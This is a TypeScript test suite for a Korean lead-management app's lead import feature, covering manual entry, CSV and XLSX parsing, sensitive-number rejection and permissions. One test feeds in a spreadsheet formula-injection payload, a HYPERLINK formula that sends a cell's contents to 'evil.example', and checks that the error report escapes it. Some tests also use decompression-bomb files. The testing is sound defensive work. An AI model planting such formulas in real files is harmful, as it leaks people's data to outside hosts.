import fs from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { landingTestApp, leadBody, openLanding, shopAccount, submit, type LandingTestApp } from '../../test-landings.ts';
import type { Client } from '../../test-helpers.ts';
import { IMPORT_FAILED, IMPORT_INTERRUPTED, importsSettled } from './data-insertion.service.ts';
import { abandonedImportsJob } from '../../worker/abandoned-imports.ts';
import { IMPORT_ABANDONED, IMPORT_CANCELLED } from '../../../contracts/data-insertion.ts';
import { luhn, parseReceivedAt, sensitiveValue, suggestMapping } from './import-rules.ts';
import { BUILTIN_ACCOUNT_TYPES } from '../../../contracts/permissions.ts';
import { emptyRowBomb, servingWhile, sharedStringsBomb } from '../../test-sheets.ts';

let t: LandingTestApp;
let marketer: Client;
let landingId: number;
let media: number;

beforeEach(async () => {
  t = await landingTestApp();
  landingId = await openLanding(t);
  media = (await t.admin.post('/api/codes/media-type', { name: '메타', code: 'meta' })).json().id as number;
  await t.admin.post('/api/codes/media-type', { name: '네이버', code: 'naver' });
  marketer = await shopAccount(t, 'marketer1', 'marketer');
});
afterEach(async () => {
  await importsSettled();
  await t.close();
});

const base = () => `/api/shops/${t.shopId}/data-insertion`;
const accountId = async (loginId: string) => (await t.app.db.selectFrom('accounts').select('id').where('login_id', '=', loginId).executeTakeFirstOrThrow()).id;
const leadsOf = (phone: string) => t.app.db.selectFrom('leads').selectAll().where('phone', '=', phone).orderBy('id').execute();

const manual = (extra: Record<string, unknown> = {}) => ({
  name: '김수기', phone: '010-2222-3333', landingId, mediaTypeId: media, memo: '오후 통화 희망', answers: [{ label: '지역', value: '서울' }],
  consentBasis: 'phone-verbal', consentNote: '11/21 통화 녹취', ...extra,
});

/** A CSV as Excel writes it: UTF-8 with a BOM, CRLF, quoted where needed. */
const csv = (rows: Array<Array<string | number>>, bom = true) =>
  Buffer.from(
    (bom ? '\ufeff' : '') + rows.map((r) => r.map((c) => (/[",\n]/.test(String(c)) ? `"${String(c).replace(/"/g, '""')}"` : String(c))).join(',')).join('\r\n'),
  );

function upload(c: Client, data: Buffer, filename: string, type = 'text/csv') {
  const boundary = '----leadroom-import';
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`),
    data,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return c.request('POST', `${base()}/imports`, payload, { 'content-type': `multipart/form-data; boundary=${boundary}` });
}

/** Uploads, starts with the suggested mapping (or the given one) and waits for the import to end. */
async function importFile(c: Client, data: Buffer, filename = '명단.csv', o: { mapping?: string[]; consentBasis?: string; consentNote?: string } = {}) {
  const up = await upload(c, data, filename);
  expect(up.statusCode, up.body).toBe(201);
  const id = up.json().id as number;
  const started = await c.post(`${base()}/imports/${id}/start`, { mapping: o.mapping ?? up.json().suggested, consentBasis: o.consentBasis ?? 'written', consentNote: o.consentNote });
  expect(started.statusCode, started.body).toBe(202);
  await importsSettled();
  return (await c.get(`${base()}/imports/${id}`)).json();
}

const HEADER = ['고객명', '휴대폰', '상담내용', '매체', '랜딩', '신청일', '지역', '관심 시술'];

describe('manual entry', () => {
  it('checks a lead as intake does, with Korean messages on each field', async () => {
    const empty = await marketer.post(`${base()}/leads`, {});
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.fields).toMatchObject({ name: '이름을 입력하세요.', phone: '전화번호를 입력하세요.', consentBasis: '개인정보 수집 근거를 선택하세요.' });
    const phone = await marketer.post(`${base()}/leads`, manual({ phone: '010-12' }));
    expect(phone.json().error.fields).toEqual({ phone: '올바른 전화번호를 입력하세요.' });
    const other = await marketer.post(`${base()}/leads`, manual({ consentBasis: 'other', consentNote: '' }));
    expect(other.json().error.fields).toEqual({ consentNote: '기타를 고르면 수집 근거를 비고에 적어 주세요.' });
    const option = await marketer.post(`${base()}/leads`, manual({ answers: [{ label: '지역', value: '부산' }] }));
    expect(option.json().error.fields).toEqual({ 'answers.0.value': '지역: 목록에 있는 항목을 고르세요.' });
    const landing = await marketer.post(`${base()}/leads`, manual({ landingId: 9999 }));
    expect(landing.json().error.fields).toEqual({ landingId: '이 업체의 랜딩을 고르세요.' });
    expect(await leadsOf('01022223333')).toEqual([]);
  });

  it('stores the lead as 수기 with its consent basis and a created event naming who entered it, and flags a duplicate', async () => {
    const res = await marketer.post(`${base()}/leads`, manual());
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toEqual({ id: expect.any(Number), duplicateOf: null, assignee: null });
    const [lead] = await leadsOf('01022223333');
    expect(lead).toMatchObject({
      id: res.json().id, source: '수기', name: '김수기', landing_id: landingId, media_type_id: media, memo: '오후 통화 희망', cs_status: '미처리',
      consent_basis: 'phone-verbal', consent_note: '11/21 통화 녹취', privacy_consent: 1, marketing_consent: 0, duplicate_of: null,
      created_at: t.clock.current.toISOString(),
    });
    expect(lead!.privacy_policy_id).not.toBeNull();
    // Answers under a landing field's label are stored under its key, as the form's are.
    expect(JSON.parse(lead!.answers)).toEqual({ area: '서울' });
    const events = await t.app.db.selectFrom('lead_events').selectAll().where('lead_id', '=', lead!.id).execute();
    expect(events).toEqual([expect.objectContaining({ action: 'created', account_id: await accountId('marketer1') })]);
    expect(JSON.parse(events[0]!.after!)).toMatchObject({ source: '수기', landingId, consentBasis: 'phone-verbal' });

    const again = await marketer.post(`${base()}/leads`, manual({ name: '김수기2', phone: '01022223333', consentBasis: 'existing-customer', landingId: null }));
    expect(again.statusCode).toBe(201);
    expect(again.json().duplicateOf).toEqual({ id: lead!.id, name: '김수기', createdAt: lead!.created_at });
    const dup = (await leadsOf('01022223333'))[1]!;
    expect(dup).toMatchObject({ cs_status: '중복', duplicate_of: lead!.id, consent_basis: 'existing-customer', privacy_consent: 0, landing_id: null });

    const detail = (await t.admin.get(`/api/shops/${t.shopId}/leads/${lead!.id}`)).json();
    expect(detail).toMatchObject({ source: '수기', memo: '오후 통화 희망', answers: [{ label: '지역', value: '서울' }] });
  });

  it('allocates the lead by the shop’s automatic rule when it is on', async () => {
    await shopAccount(t, 'counselor1', 'counselor');
    expect((await t.admin.put(`/api/shops/${t.shopId}/allocation/rule`, { autoMode: 'round-robin' })).statusCode).toBe(200);
    const res = await marketer.post(`${base()}/leads`, manual());
    expect(res.json().assignee).toEqual({ id: await accountId('counselor1'), name: 'counselor1' });
    expect((await leadsOf('01022223333'))[0]!.assignee_id).toBe(await accountId('counselor1'));
  });
});

describe('import', () => {
  it('suggests a mapping from Korean headers and previews the first rows', async () => {
    const rows = [HEADER, ...Array.from({ length: 12 }, (_, i) => [`고객${i}`, `010-3000-${String(1000 + i)}`, '', '메타', '', '', '서울', '임플란트'])];
    const res = await upload(marketer, csv(rows), '11월 명단.csv');
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toMatchObject({
      fileName: '11월 명단.csv', status: 'uploaded', format: 'csv', encoding: 'utf-8', totalRows: 12, headers: HEADER,
      suggested: ['name', 'phone', 'memo', 'medium', 'landing', 'receivedAt', 'answer', 'answer'],
      progress: { phase: null, done: 0, total: 12 },
    });
    expect(res.json().preview).toHaveLength(10);
    expect(res.json().preview[0]).toEqual(['고객0', '010-3000-1000', '', '메타', '', '', '서울', '임플란트']);
    expect(fs.existsSync(path.join(t.dataDir, 'imports', String(res.json().id)))).toBe(true);

    expect(suggestMapping(['성명', '연락처', '비고', '유입 매체', '랜딩페이지', '접수일', '나이'])).toEqual(['name', 'phone', 'memo', 'medium', 'landing', 'receivedAt', 'answer']);
    expect(suggestMapping(['이름', '전화번호', '핸드폰', '휴대전화'])).toEqual(['name', 'phone', 'answer', 'answer']);
    const list = (await marketer.get(`${base()}/imports`)).json();
    expect(list).toMatchObject({ total: 1, items: [{ fileName: '11월 명단.csv', status: 'uploaded', accountName: 'marketer1' }] });
  });

  it('imports the good rows and reports every bad one with its row, column, reason and values', async () => {
    const early = await submit(t, leadBody(t, landingId, { phone: '010-4000-0001' }));
    expect(early.statusCode).toBe(201);
    const rows = [
      HEADER,
      ['정상일', '010-4000-0001', '재상담', '메타', '임플란트 상담 이벤트', '', '서울', '임플란트'],
      ['', '010-4000-0002', '', '', '', '', '', ''],
      ['전화오류', '010-12', '', '', '', '', '', ''],
      ['매체오류', '010-4000-0004', '', '카톡', '', '', '', ''],
      [],
      ['정상이', '01040000005', '', '네이버', '', '2026-11-20 14:30', '', ''],
      ['랜딩오류', '010-4000-0006', '', '', '없는 랜딩', '', '', ''],
      ['날짜오류', '010-4000-0007', '', '', '', '어제쯤', '', ''],
      ['정상삼', '+82 10-4000-0008', '', 'naver', 'implant', '2026. 11. 19. 오후 3:05:00', '경기', ''],
    ];
    const done = await importFile(marketer, csv(rows), '명단.csv', { consentNote: '11월 박람회 신청서' });
    expect(done).toMatchObject({ status: 'done', totalRows: 8, consentNote: '11월 박람회 신청서', imported: 3, duplicates: 1, failed: 5, hasErrorReport: true, consentBasis: 'written' });

    const [first, dup] = await leadsOf('01040000001');
    expect(dup).toMatchObject({
      source: '가져오기', name: '정상일', cs_status: '중복', duplicate_of: first!.id, import_id: done.id, consent_basis: 'written', privacy_consent: 1,
      consent_note: '11월 박람회 신청서',
      landing_id: landingId, media_type_id: media, memo: '재상담',
    });
    expect(JSON.parse(dup!.answers)).toEqual({ area: '서울', '관심 시술': '임플란트' });
    expect((await leadsOf('01040000005'))[0]).toMatchObject({ created_at: '2026-11-20T05:30:00.000Z', landing_id: null });
    expect((await leadsOf('01040000008'))[0]).toMatchObject({ created_at: '2026-11-19T06:05:00.000Z', landing_id: landingId });
    const created = await t.app.db.selectFrom('lead_events').select(['account_id', 'after']).where('lead_id', '=', dup!.id).where('action', '=', 'created').executeTakeFirstOrThrow();
    expect(created.account_id).toBe(await accountId('marketer1'));
    expect(JSON.parse(created.after!)).toMatchObject({ source: '가져오기', importId: done.id, duplicateOf: first!.id });

    const access = await t.app.db.selectFrom('access_events').selectAll().where('action', '=', 'import').execute();
    expect(access).toEqual([expect.objectContaining({ shop_id: t.shopId, account_id: await accountId('marketer1'), row_count: 3 })]);
    expect(JSON.parse(access[0]!.detail!)).toEqual({ fileName: '명단.csv', importId: done.id, failed: 5 });

    const report = await marketer.get(`${base()}/imports/${done.id}/errors`);
    expect(report.statusCode).toBe(200);
    expect(report.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(report.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('명단-오류.csv')}`);
    const text = report.rawPayload.toString('utf8');
    expect(text.startsWith('\ufeff행 번호,열,사유,고객명,휴대폰')).toBe(true);
    const lines = text.replace(/^\ufeff/, '').trim().split(/\r?\n/);
    expect(lines.slice(1)).toEqual([
      '3,고객명,이름이 비어 있습니다.,,010-4000-0002,,,,,,',
      '4,휴대폰,올바른 전화번호가 아닙니다.,전화오류,010-12,,,,,,',
      "5,매체,등록되지 않은 매체입니다: '카톡',매체오류,010-4000-0004,,카톡,,,,",
      "8,랜딩,이 업체에 없는 랜딩입니다: '없는 랜딩'을 찾지 못했습니다.,랜딩오류,010-4000-0006,,,없는 랜딩,,,",
      '9,신청일,접수일을 읽을 수 없습니다. (예: 2026-11-20 14:30),날짜오류,010-4000-0007,,,,어제쯤,,',
    ]);
    expect((await t.app.db.selectFrom('access_events').select('action').where('action', '=', 'export').execute()).length).toBe(1);
    // The file itself is not kept once imported; the report is.
    expect(fs.existsSync(path.join(t.dataDir, 'imports', String(done.id)))).toBe(false);
    expect((await marketer.post(`${base()}/imports/${done.id}/start`, { mapping: done.mapping, consentBasis: 'written' })).statusCode).toBe(409);
  });

  it('writes the report so that no cell from the file runs as a formula in the spreadsheet that opens it', async () => {
    const link = '=HYPERLINK("http://evil.example/?"&A2,"상세 보기")';
    const rows = [['이름', '연락처', '=메모'], [link, '010-12', '@SUM(1+1)'], ['+가', '-1', '-2+3']];
    const done = await importFile(marketer, csv(rows), '명단.csv');
    expect(done).toMatchObject({ status: 'done', imported: 0, failed: 2, hasErrorReport: true });
    const report = parse((await marketer.get(`${base()}/imports/${done.id}/errors`)).rawPayload.toString('utf8'), { bom: true, relax_column_count: true }) as string[][];
    expect(report[0]).toEqual(['행 번호', '열', '사유', '이름', '연락처', "'=메모"]);
    expect(report.slice(1).map((r) => r.slice(3))).toContainEqual([`'${link}`, '010-12', "'@SUM(1+1)"]);
    expect(report.slice(1).map((r) => r.slice(3))).toContainEqual(["'+가", "'-1", "'-2+3"]);
    expect(report.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('reads CSV written in CP949 (EUC-KR), as Korean Excel saves it', async () => {
    const text = ['이름,연락처,메모', '박한글,010-5000-0001,"쉼표, 포함"', '최완성,010-5000-0002,'].join('\r\n');
    const up = await upload(marketer, iconv.encode(text, 'cp949'), 'euc-kr.csv');
    expect(up.json()).toMatchObject({ encoding: 'cp949', headers: ['이름', '연락처', '메모'], preview: [['박한글', '010-5000-0001', '쉼표, 포함'], ['최완성', '010-5000-0002', '']] });
    const done = await importFile(marketer, iconv.encode(text, 'cp949'), 'euc-kr.csv');
    expect(done).toMatchObject({ status: 'done', imported: 2, failed: 0, hasErrorReport: false });
    expect((await leadsOf('01050000001'))[0]).toMatchObject({ name: '박한글', memo: '쉼표, 포함' });

    // Excel's "유니코드 텍스트": UTF-16 with a BOM, tab-separated.
    const unicode = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(['이름\t연락처', '유니코드\t010-5000-0003'].join('\r\n'), 'utf16le')]);
    const wide = await importFile(marketer, unicode, '유니코드.txt');
    expect(wide).toMatchObject({ status: 'done', encoding: 'utf-16le', headers: ['이름', '연락처'], imported: 1 });
    expect((await leadsOf('01050000003'))[0]).toMatchObject({ name: '유니코드' });
  });

  it('reads XLSX, with phones Excel kept as numbers and dates as dates', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('명단');
    ws.addRow(['성명', '핸드폰', '접수일시', '비고']);
    ws.addRow(['엑셀일', 1060000001, new Date(Date.UTC(2026, 10, 18, 9, 15)), '메모']);
    ws.addRow(['엑셀이', '010-6000-0002', null, null]);
    ws.addRow(['엑셀삼', 'abc', null, null]);
    ws.getColumn(3).numFmt = 'yyyy-mm-dd hh:mm';
    wb.addWorksheet('다른 시트').addRow(['무시', '010-6000-0009']);
    const done = await importFile(marketer, Buffer.from(await wb.xlsx.writeBuffer()), '명단.xlsx');
    expect(done).toMatchObject({ status: 'done', format: 'xlsx', totalRows: 3, imported: 2, failed: 1 });
    expect((await leadsOf('01060000001'))[0]).toMatchObject({ name: '엑셀일', memo: '메모', created_at: '2026-11-18T00:15:00.000Z' });
    expect(await leadsOf('01060000002')).toHaveLength(1);
    expect(await leadsOf('01060000009')).toEqual([]);
  });

  it('refuses files holding resident registration, card or bank account numbers, naming where, and keeps nothing', async () => {
    const refused = async (rows: Array<Array<string>>) => {
      const res = await upload(marketer, csv(rows), '위험.csv');
      expect(res.statusCode).toBe(422);
      return res.json().error.message as string;
    };
    expect(await refused([['이름', '연락처', '주민번호'], ['가', '010-7000-0001', '900101-1234567']])).toBe(
      "주민등록번호·카드번호·계좌번호는 가져올 수 없습니다. 발견된 곳: '주민번호' 열(주민등록번호). 해당 열이나 값을 지운 뒤 다시 올려 주세요.",
    );
    expect(await refused([['이름', '연락처', '비고'], ['가', '010-7000-0001', ''], ['나', '010-7000-0002', '생년 900101-1234567']])).toContain("3행 '비고' 열(주민등록번호)");
    expect(await refused([['이름', '연락처', '카드 번호'], ['가', '010-7000-0001', '']])).toContain("'카드 번호' 열(카드번호)");
    expect(await refused([['이름', '연락처', '결제'], ['가', '010-7000-0001', '4111 1111 1111 1111']])).toContain("2행 '결제' 열(카드번호)");
    expect(await refused([['이름', '연락처', '입금계좌'], ['가', '010-7000-0001', '']])).toContain("'입금계좌' 열(계좌번호)");
    expect(await refused([['이름', '연락처', '메모'], ['가', '010-7000-0001', '국민은행 123456-01-234567로 환불']])).toContain("2행 '메모' 열(계좌번호)");
    expect(await t.app.db.selectFrom('lead_imports').selectAll().execute()).toEqual([]);
    expect(fs.readdirSync(path.join(t.dataDir, 'imports'))).toEqual([]);

    expect(sensitiveValue('010-1234-5678')).toBeNull();
    expect(sensitiveValue('01012345678 / 02-123-4567')).toBeNull();
    expect(sensitiveValue('9001011234567')).toBe('rrn');
    expect(sensitiveValue('4111111111111112')).toBeNull();
    expect(luhn('4111111111111111')).toBe(true);
  });

  it('refuses files over the size or row limit with a message saying so', async () => {
    const many = [['이름', '연락처'], ...Array.from({ length: 50_001 }, (_, i) => [`이름${i}`, `010${String(10_000_000 + i)}`])];
    const rows = await upload(marketer, csv(many), '많음.csv');
    expect(rows.statusCode).toBe(413);
    expect(rows.json().error.message).toBe('한 번에 50,000행까지 가져올 수 있습니다. 파일을 나눠서 올려 주세요.');
    const big = await upload(marketer, Buffer.alloc(20 * 1024 * 1024 + 10, '홍길동,010-1234-5678\r\n'), '큼.csv');
    expect(big.statusCode).toBe(413);
    expect(big.json().error.message).toBe('파일은 20MB 이하만 올릴 수 있습니다. 파일을 나눠서 올려 주세요.');
    expect(await t.app.db.selectFrom('lead_imports').selectAll().execute()).toEqual([]);
    const xls = await upload(marketer, Buffer.from('d0cf11e0a1b11ae1000000', 'hex'), '옛날.xls');
    expect(xls.json().error.message).toContain('.xls');
  });

  it('stores nothing of a file whose import fails midway, and can run it again', async () => {
    // A database error on the 1,500th row: the first batch is written by then, inside the transaction.
    if (t.app.dialect === 'postgres') {
      await sql`create function fail_import() returns trigger language plpgsql as $$ begin if new.name = '실패' then raise exception 'forced'; end if; return new; end $$`.execute(t.app.db);
      await sql`create trigger fail_import before insert on leads for each row execute function fail_import()`.execute(t.app.db);
    } else {
      await sql`create trigger fail_import before insert on leads when new.name = '실패' begin select raise(abort, 'forced'); end`.execute(t.app.db);
    }
    const rows = [['이름', '연락처'], ...Array.from({ length: 1600 }, (_, i) => [i === 1499 ? '실패' : `가져옴${i}`, `010${String(20_000_000 + i)}`])];
    const failed = await importFile(marketer, csv(rows));
    expect(failed).toMatchObject({ status: 'failed', error: IMPORT_FAILED, imported: 0 });
    const count = async () => Number((await t.app.db.selectFrom('leads').select(sql<number>`count(*)`.as('n')).where('source', '=', '가져오기').executeTakeFirstOrThrow()).n);
    expect(await count()).toBe(0);
    expect(await t.app.db.selectFrom('access_events').selectAll().execute()).toEqual([]);
    expect(failed.preview.length).toBeGreaterThan(0);

    if (t.app.dialect === 'postgres') await sql`drop trigger fail_import on leads`.execute(t.app.db);
    else await sql`drop trigger fail_import`.execute(t.app.db);
    const again = await marketer.post(`${base()}/imports/${failed.id}/start`, { mapping: ['name', 'phone'], consentBasis: 'written' });
    expect(again.statusCode).toBe(202);
    await importsSettled();
    expect((await marketer.get(`${base()}/imports/${failed.id}`)).json()).toMatchObject({ status: 'done', imported: 1600, failed: 0 });
    expect(await count()).toBe(1600);
  });

  it('fails an import a stopped server left importing, so that it can run again', async () => {
    const up = (await upload(marketer, csv([['이름', '연락처'], ['가', '010-8100-0001']]), 'a.csv')).json();
    await t.app.db.updateTable('lead_imports').set({ status: 'importing', started_at: t.clock.current.toISOString() }).where('id', '=', up.id).execute();
    expect((await marketer.get(`${base()}/imports/${up.id}`)).json().status).toBe('importing');
    t.clock.advanceMinutes(31);
    expect((await marketer.get(`${base()}/imports`)).json().items[0]).toMatchObject({ status: 'failed', error: IMPORT_INTERRUPTED });
    expect((await marketer.post(`${base()}/imports/${up.id}/start`, { mapping: ['name', 'phone'], consentBasis: 'written' })).statusCode).toBe(202);
    await importsSettled();
    expect((await marketer.get(`${base()}/imports/${up.id}`)).json()).toMatchObject({ status: 'done', imported: 1 });
  });

  it('checks the mapping', async () => {
    const up = (await upload(marketer, csv([['이름', '연락처', '메모'], ['가', '010-8000-0001', '']]), 'a.csv')).json();
    const bad = await marketer.post(`${base()}/imports/${up.id}/start`, { mapping: ['name', 'memo', 'memo'], consentBasis: 'written' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields.mapping).toBe('연락처 열을 고르세요.');
    const short = await marketer.post(`${base()}/imports/${up.id}/start`, { mapping: ['name', 'phone'], consentBasis: 'written' });
    expect(short.json().error.fields.mapping).toBe('열 3개마다 가져올 항목을 고르세요.');
  });
});

describe('an import not run (issue 22)', () => {
  const importFiles = () => fs.readdirSync(path.join(t.dataDir, 'imports'));
  const accessEvents = () => t.app.db.selectFrom('access_events').select(['shop_id', 'account_id', 'action', 'row_count', 'detail', 'ip']).orderBy('id').execute();

  it('is cancelled by a person who may import: its file deleted at once, the import kept as 취소됨, the cancel in the access record', async () => {
    const up = (await upload(marketer, csv([['이름', '연락처'], ['가', '010-8000-0001'], ['나', '010-8000-0002']]), '박람회.csv')).json();
    expect(importFiles()).toEqual([String(up.id)]);

    // 업체관리자 reads the list but cancels nothing; another shop's path does not reach it.
    const owner = await shopAccount(t, 'owner1', 'shop-owner');
    expect((await owner.post(`${base()}/imports/${up.id}/cancel`)).statusCode).toBe(403);
    const other = (await t.admin.post('/api/shops', { shopCode: 'other', name: '다른치과' })).json().id as number;
    expect((await t.admin.post(`/api/shops/${other}/data-insertion/imports/${up.id}/cancel`)).statusCode).toBe(404);
    expect(importFiles()).toEqual([String(up.id)]);

    const res = await marketer.post(`${base()}/imports/${up.id}/cancel`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ id: up.id, status: 'cancelled', error: IMPORT_CANCELLED, finishedAt: t.clock.current.toISOString() });
    expect(importFiles()).toEqual([]);
    expect((await marketer.get(`${base()}/imports`)).json().items[0]).toMatchObject({ id: up.id, status: 'cancelled', fileName: '박람회.csv' });
    expect(await accessEvents()).toEqual([{
      shop_id: t.shopId, account_id: await accountId('marketer1'), action: 'import-cancel', row_count: 2, ip: expect.any(String),
      detail: JSON.stringify({ importId: up.id, fileName: '박람회.csv', trigger: 'manual' }),
    }]);
    // In the shop's access record, in Korean.
    const record = (await t.admin.get(`/api/shops/${t.shopId}/access-record?action=import-cancel`)).json();
    expect(record.items[0]).toMatchObject({ action: 'import-cancel', accountName: expect.any(String) });
    expect(record.items[0].summary).toBe('2건 · 박람회.csv · 직접 취소 · 올린 파일 삭제');

    // Cancelled is final: it neither starts nor cancels again.
    expect((await marketer.post(`${base()}/imports/${up.id}/start`, { mapping: ['name', 'phone'], consentBasis: 'written' })).json().error.message).toBe(
      '취소한 가져오기입니다. 파일을 다시 올려 주세요.',
    );
    expect((await marketer.post(`${base()}/imports/${up.id}/cancel`)).statusCode).toBe(409);
  });

  it('cannot be cancelled once imported, nor while importing', async () => {
    const done = await importFile(marketer, csv([['이름', '연락처'], ['가', '010-8000-0003']]));
    const res = await marketer.post(`${base()}/imports/${done.id}/cancel`);
    expect(res.statusCode).toBe(409);
    expect(res.json().error.message).toBe('가져오는 중이거나 가져온 파일은 취소할 수 없습니다.');
    expect((await accessEvents()).map((e) => e.action)).toEqual(['import']);
  });

  it('is cancelled and its file deleted by the scheduled job an hour after its upload or its failure, recorded without an account', async () => {
    const waiting = (await upload(marketer, csv([['이름', '연락처'], ['가', '010-8000-0004']]), 'waiting.csv')).json();
    t.clock.advanceMinutes(30);
    const failed = (await upload(marketer, csv([['이름', '연락처'], ['나', '010-8000-0005']]), 'failed.csv')).json();
    await t.app.db.updateTable('lead_imports').set({ status: 'failed', error: IMPORT_FAILED, finished_at: new Date(t.clock.current.getTime() + 20 * 60_000).toISOString() }).where('id', '=', failed.id).execute();
    const job = abandonedImportsJob(t.app.db, t.clock.now, { dataDir: t.dataDir });

    // 59 minutes after the first upload: nothing yet.
    t.clock.advanceMinutes(29);
    expect(await job.run()).toEqual([]);
    expect(importFiles().sort()).toEqual([String(waiting.id), String(failed.id)].sort());

    // An hour after the upload: the waiting one goes; the failed one, 50 minutes after its failure, stays.
    t.clock.advanceMinutes(2);
    expect(await job.run()).toEqual([waiting.id]);
    expect(importFiles()).toEqual([String(failed.id)]);
    expect((await marketer.get(`${base()}/imports/${waiting.id}`)).json()).toMatchObject({ status: 'cancelled', error: IMPORT_ABANDONED });
    expect(await accessEvents()).toEqual([{
      shop_id: t.shopId, account_id: null, action: 'import-cancel', row_count: 1, ip: null,
      detail: JSON.stringify({ importId: waiting.id, fileName: 'waiting.csv', trigger: 'abandoned' }),
    }]);

    // An hour after its failure, the failed one goes too.
    t.clock.advanceMinutes(49);
    expect(await job.run()).toEqual([]);
    t.clock.advanceMinutes(2);
    expect(await job.run()).toEqual([failed.id]);
    expect(importFiles()).toEqual([]);
    // A second process running the same job at once finds nothing left to do.
    expect(await job.run()).toEqual([]);
    expect((await accessEvents()).length).toBe(2);
    const admin = await t.login(); // the morning's session has idled out meanwhile
    const record = (await admin.get(`/api/shops/${t.shopId}/access-record?action=import-cancel`)).json();
    expect(record.items.map((i: { summary: string }) => i.summary)).toContain('1건 · waiting.csv · 1시간 동안 가져오지 않아 자동 취소 · 올린 파일 삭제');
  });
});

describe('files past the reader’s limits (issue 19)', () => {
  it('refuses finding 1’s shared-strings bomb with its Korean reason while the service keeps answering', async () => {
    // 1.5 MB whose shared strings unpack to 1.2 GB (100,000 strings of 4,000 characters).
    const res = await servingWhile(t.app, upload(marketer, sharedStringsBomb(100_000, 4000), '명단.xlsx'));
    expect(res.statusCode).toBe(413);
    expect(res.json().error.message).toBe('엑셀 파일의 압축을 푼 크기가 200MB를 넘어 읽지 않았습니다. 파일을 나눠서 올려 주세요.');
    expect(await t.app.db.selectFrom('lead_imports').selectAll().execute()).toEqual([]);
    expect(fs.readdirSync(path.join(t.dataDir, 'imports'))).toEqual([]);
  });

  it('refuses finding 2’s sheet of empty rows at the row limit while the service keeps answering', async () => {
    // 150,000 empty rows, then one lead: the empty rows count toward the limit.
    const res = await servingWhile(t.app, upload(marketer, emptyRowBomb(150_000), '명단.xlsx'));
    expect(res.statusCode).toBe(413);
    expect(res.json().error.message).toBe('빈 행을 포함해 100,000행을 넘는 파일은 읽지 않습니다. 빈 행을 지우거나 파일을 나눠서 올려 주세요.');
    expect(await t.app.db.selectFrom('lead_imports').selectAll().execute()).toEqual([]);
  });
});

describe('who may', () => {
  it('refuses accounts without the screen, other shops’ imports, and counselors', async () => {
    expect(BUILTIN_ACCOUNT_TYPES.find((b) => b.key === 'counselor')!.permissions['data-insertion']).toBe('none');
    const counselor = await shopAccount(t, 'counselor1', 'counselor');
    const file = csv([['이름', '연락처'], ['가', '010-9000-0001']]);
    expect((await upload(counselor, file, 'a.csv')).statusCode).toBe(403);
    expect((await counselor.post(`${base()}/leads`, manual())).statusCode).toBe(403);
    expect((await counselor.get(`${base()}/imports`)).statusCode).toBe(403);

    // 업체관리자 reads the list of imports but neither enters nor imports leads.
    const owner = await shopAccount(t, 'owner1', 'shop-owner');
    expect((await owner.get(`${base()}/imports`)).statusCode).toBe(200);
    expect((await owner.post(`${base()}/leads`, manual())).statusCode).toBe(403);
    expect((await upload(owner, file, 'a.csv')).statusCode).toBe(403);

    const mine = (await upload(marketer, file, 'a.csv')).json();
    const other = (await t.admin.post('/api/shops', { shopCode: 'other', name: '다른치과' })).json().id as number;
    expect((await marketer.post(`/api/shops/${other}/data-insertion/leads`, manual({ landingId: null }))).statusCode).toBe(403);
    expect((await upload(t.admin, file, 'a.csv')).statusCode).toBe(201);
    // Another shop's path does not reach this shop's import.
    expect((await t.admin.get(`/api/shops/${other}/data-insertion/imports/${mine.id}`)).statusCode).toBe(404);
    expect((await t.admin.post(`/api/shops/${other}/data-insertion/imports/${mine.id}/start`, { mapping: ['name', 'phone'], consentBasis: 'written' })).statusCode).toBe(404);
  });
});

describe('reading received dates', () => {
  it('reads the ways people and Excel write them, in Seoul time', () => {
    expect(parseReceivedAt('2026-11-20')?.toISOString()).toBe('2026-11-19T15:00:00.000Z');
    expect(parseReceivedAt('2026.11.20 09:05')?.toISOString()).toBe('2026-11-20T00:05:00.000Z');
    expect(parseReceivedAt('2026/11/20 오전 12:30')?.toISOString()).toBe('2026-11-19T15:30:00.000Z');
    expect(parseReceivedAt('20261120')?.toISOString()).toBe('2026-11-19T15:00:00.000Z');
    expect(parseReceivedAt('2026-02-30')).toBeNull();
    expect(parseReceivedAt('46346')?.toISOString()).toBe('2026-11-19T15:00:00.000Z');
  });
});
